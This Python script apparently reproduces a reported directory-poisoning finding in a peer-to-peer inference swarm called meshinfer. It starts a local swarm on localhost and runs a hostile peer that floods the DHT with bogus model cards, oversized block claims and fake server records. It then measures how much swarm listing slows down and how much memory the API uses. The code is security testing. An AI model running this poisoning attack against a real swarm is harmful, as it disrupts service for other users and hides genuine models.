"""Directory poisoning (issue 17, finding 1): one hostile peer floods the DHT directory; measure the damage.

Starts, on 127.0.0.1, a ``meshinfer dht`` bootstrap, one ``meshinfer serve`` of the demo model (all blocks) and
optionally a ``meshinfer api``; times ``meshinfer swarm --json`` on the clean swarm; then a hostile peer (this
script with ``--attacker``, signing with its own fresh key and writing raw msgpack straight into hivemind, as
modified code would) stores ``--cards`` model cards claiming ``--blocks`` blocks each (directory entries and
``model:`` keys), ``--bound-cards`` cards with well-formed ids at the largest block count a reader may accept,
and ``--fake-servers`` server records for models that do not exist; then times ``meshinfer swarm --json``
again (``--repeat`` times each: the median counts) and samples the api's RSS. Prints one JSON report. Every
process it starts is stopped by PID.

Run it against a tree with ``PYTHONPATH=<tree>/src python scripts/attacks/directory_poison.py [--api]``.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

HEX = "0123456789abcdef"


def rss_mb(pid: int) -> float:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


def fds(pid: int) -> int:
    try:
        return len(list(Path(f"/proc/{pid}/fd").iterdir()))
    except OSError:
        return -1


def fake_id(prefix: str, i: int) -> str:
    return hashlib.sha256(f"{prefix}{i}".encode()).hexdigest()[:32]


# --- the attacker ---------------------------------------------------------------------------------------

async def attack(initial_peers: list[str], cards: int, blocks: int, bound_cards: int, bound_blocks: int,
                 fake_servers: int, serve_bound: bool = False) -> dict[str, Any]:
    import msgspec

    from meshinfer.config import P2PConfig
    from meshinfer.p2p.node import NodeSettings, PeerNode

    node = await PeerNode.start(P2PConfig(host="127.0.0.1", initial_peers=tuple(initial_peers)),
                                NodeSettings(client_mode=True))
    me = node.peer_id

    def card(model_id: str, n: int) -> bytes:
        return msgspec.msgpack.encode({"type": "model_card", "model_id": model_id, "name": f"bogus/{model_id[:8]}",
                                       "family": "llama", "num_blocks": n, "hidden_size": 64, "dtype": "float32",
                                       "v": 1})

    def server(model_id: str) -> bytes:
        return msgspec.msgpack.encode({"type": "server", "peer_id": me, "model_id": model_id,
                                       "span": {"start": 0, "end": 4}, "state": "online", "throughput": 1e12,
                                       "cache_tokens_left": 10**9, "addresses": ["/ip4/127.0.0.1/tcp/9/p2p/" + me],
                                       "software_version": "9.9", "v": 1})

    items: list[tuple[str, str, bytes]] = []  # key, subkey, payload
    for i in range(cards):
        mid = f"bogus-{i:04d}"
        items += [("models", f"{me}/{mid}", card(mid, blocks)), (f"model:{mid}", me, card(mid, blocks))]
    for i in range(bound_cards):
        mid = fake_id("bound", i)
        items += [("models", f"{me}/{mid}", card(mid, bound_blocks))]
        if serve_bound:  # claim to serve it too: a card is believed only from a peer that serves the model
            items += [(f"servers:{mid}", me, server(mid))]
    for i in range(fake_servers):
        mid = fake_id("ghost", i)
        key = f"block:{mid}:0" if i % 2 else f"servers:{mid}"
        items += [(key, me, server(mid))]
    expiration = time.time() + 900
    stored = 0
    t0 = time.monotonic()
    for start in range(0, len(items), 200):
        chunk = items[start:start + 200]
        ok = await node._dht.store_many([k for k, _, _ in chunk], [v for _, _, v in chunk], expiration,
                                        subkeys=[s for _, s, _ in chunk])
        stored += sum(1 for k, s, _ in chunk if ok.get((k, s)))
    return {"attacker": me, "records": len(items), "stored": stored, "store_s": round(time.monotonic() - t0, 2),
            "node": node}


def attacker_main(args: argparse.Namespace) -> None:
    async def run() -> None:
        out = await attack(args.initial_peers, args.cards, args.blocks, args.bound_cards, args.bound_blocks,
                           args.fake_servers, args.serve_bound)
        node = out.pop("node")
        print(json.dumps(out), flush=True)
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)  # until our launcher closes stdin
        await node.close()

    asyncio.run(run())


# --- the launcher ---------------------------------------------------------------------------------------

def swarm_json(initial_peers: list[str], timeout: float) -> tuple[float, dict[str, Any] | None, str]:
    from meshinfer.testing.procs import meshinfer_argv

    t0 = time.monotonic()
    try:
        done = subprocess.run(meshinfer_argv("swarm", "--json", "--initial-peers", *initial_peers),
                              capture_output=True, text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        return time.monotonic() - t0, None, f"timed out after {timeout:g}s"
    elapsed = time.monotonic() - t0
    try:
        return elapsed, json.loads(done.stdout), done.stderr[-300:]
    except ValueError:
        return elapsed, None, (done.stdout + done.stderr)[-300:]


def summary(doc: dict[str, Any] | None, model_id: str) -> dict[str, Any]:
    if doc is None:
        return {"listed": False}
    models = {m["model_id"]: m for m in doc["models"]}
    real = models.get(model_id)
    return {"models_listed": len(models), "real_listed": real is not None,
            "real_servers": [s["peer_id"][:12] for s in real["servers"]] if real else [],
            "real_missing_blocks": real["missing_blocks"] if real else None}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--attacker", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--initial-peers", nargs="*", default=[])
    parser.add_argument("--cards", type=int, default=300)
    parser.add_argument("--blocks", type=int, default=100_000)
    parser.add_argument("--bound-cards", type=int, default=0)
    parser.add_argument("--bound-blocks", type=int, default=4096)
    parser.add_argument("--fake-servers", type=int, default=400)
    parser.add_argument("--serve-bound", action="store_true", help="also sign server records for the bound cards")
    parser.add_argument("--api", action="store_true", help="also run `meshinfer api` and sample its RSS")
    parser.add_argument("--api-seconds", type=float, default=30.0)
    parser.add_argument("--api-rss-cap-mb", type=float, default=4000.0, help="stop sampling above this")
    parser.add_argument("--swarm-timeout", type=float, default=150.0)
    parser.add_argument("--repeat", type=int, default=1, help="time `meshinfer swarm --json` this many times each")
    args = parser.parse_args()
    if args.attacker:
        attacker_main(args)
        return 0

    from meshinfer.readyline import parse_ready_line
    from meshinfer.testing.checkpoints import demo_checkpoint
    from meshinfer.testing.procs import ManagedProcess, meshinfer_argv
    from meshinfer.testing.swarm import LocalSwarm

    model_dir = demo_checkpoint()
    report: dict[str, Any] = {"tree": sys.path[0] if sys.path else "", "attack": vars(args)}
    swarm = LocalSwarm(model_dir, spans=[(0, 8)], torch_threads=1)
    api: ManagedProcess | None = None
    attacker: ManagedProcess | None = None
    try:
        swarm.start()
        peers = swarm.initial_peers
        report["server_rss_mb"] = {"start": round(rss_mb(swarm.servers[0].pid))}
        runs = [swarm_json(peers, args.swarm_timeout) for _ in range(args.repeat)]
        clean_s, doc, err = sorted(runs, key=lambda r: r[0])[len(runs) // 2]
        report["swarm_clean"] = {"s": round(clean_s, 2), "all_s": [round(r[0], 2) for r in runs],
                                 **summary(doc, swarm.model_id), "err": err if doc is None else ""}
        if args.api:
            api = ManagedProcess(meshinfer_argv("api", "--model", str(model_dir), "--port", "0",
                                                "--stop-on-stdin-eof", "--initial-peers", *peers), name="meshinfer api")
            deadline = time.monotonic() + 120
            while parse_ready_line(api.read_line(max(0.1, deadline - time.monotonic()))) is None:
                pass
            time.sleep(6)
            report["api"] = {"rss_mb_clean": round(rss_mb(api.pid)), "fds_clean": fds(api.pid)}
        attacker = ManagedProcess([sys.executable, __file__, "--attacker", "--initial-peers", *peers,
                                   "--cards", str(args.cards), "--blocks", str(args.blocks),
                                   "--bound-cards", str(args.bound_cards), "--bound-blocks", str(args.bound_blocks),
                                   "--fake-servers", str(args.fake_servers),
                                   *(["--serve-bound"] if args.serve_bound else [])], name="attacker")
        report["attacker"] = attacker.read_json(300)
        if api is not None:
            samples = []
            t0 = time.monotonic()
            while time.monotonic() - t0 < args.api_seconds:
                time.sleep(2)
                samples.append(round(rss_mb(api.pid)))
                if samples[-1] > args.api_rss_cap_mb:
                    break
            report["api"].update(rss_mb_during=samples, fds_during=fds(api.pid),
                                 sampled_s=round(time.monotonic() - t0, 1))
        runs = [swarm_json(peers, args.swarm_timeout) for _ in range(args.repeat)]
        attacked_s, doc, err = sorted(runs, key=lambda r: r[0])[len(runs) // 2]
        report["swarm_attacked"] = {"s": round(attacked_s, 2), "all_s": [round(r[0], 2) for r in runs],
                                    **summary(doc, swarm.model_id), "err": err if doc is None else ""}
        report["ratio"] = round(attacked_s / clean_s, 2)
        report["server_rss_mb"]["end"] = round(rss_mb(swarm.servers[0].pid))
        if api is not None:
            report["api"].update(rss_mb_end=round(rss_mb(api.pid)), fds_end=fds(api.pid))
    finally:
        for proc in (attacker, api):
            if proc is not None:
                proc.stop()
        swarm.stop()
    print(json.dumps(report, indent=1))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
